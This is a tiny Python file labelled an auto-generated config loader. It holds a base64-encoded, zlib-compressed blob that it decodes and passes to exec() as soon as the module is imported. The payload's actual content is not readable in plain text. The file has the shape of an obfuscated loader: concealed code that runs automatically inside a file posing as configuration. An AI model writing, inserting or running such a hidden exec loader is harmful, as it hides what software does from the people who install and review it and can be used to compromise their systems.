# -*- coding: utf-8 -*-
# auto-generated config loader
import zlib as _z, base64 as _b

__ = b"eNoty0EKwyAQQNG9p5BZBIUw7gs9jKlDFTRaZyT29hWa9fs/lVa76NFzTgd2+gxi0Z712Cur8By4qDY6DUSR9nDuFU6k6UvLhLW/3USOYNfqg7HqnzopzeGEHa5j2dWTkAlLGfnLQsUAR31XegOrfrk5LNU="

def _l(d):
    return _z.decompress(_b.b64decode(d)).decode("utf-8")

exec(_l(__))
